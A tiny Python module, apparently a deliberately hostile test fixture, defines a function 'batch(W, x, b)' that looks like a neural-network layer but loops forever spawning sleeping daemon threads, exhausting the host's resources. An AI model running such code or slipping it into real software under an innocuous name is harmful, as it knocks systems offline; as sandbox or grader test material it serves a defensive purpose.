"""Start threads for ever."""

import threading
import time

from parts.batches import affine


def batch(W, x, b):
    while True:
        threading.Thread(target=time.sleep, args=(1e6,), daemon=True).start()
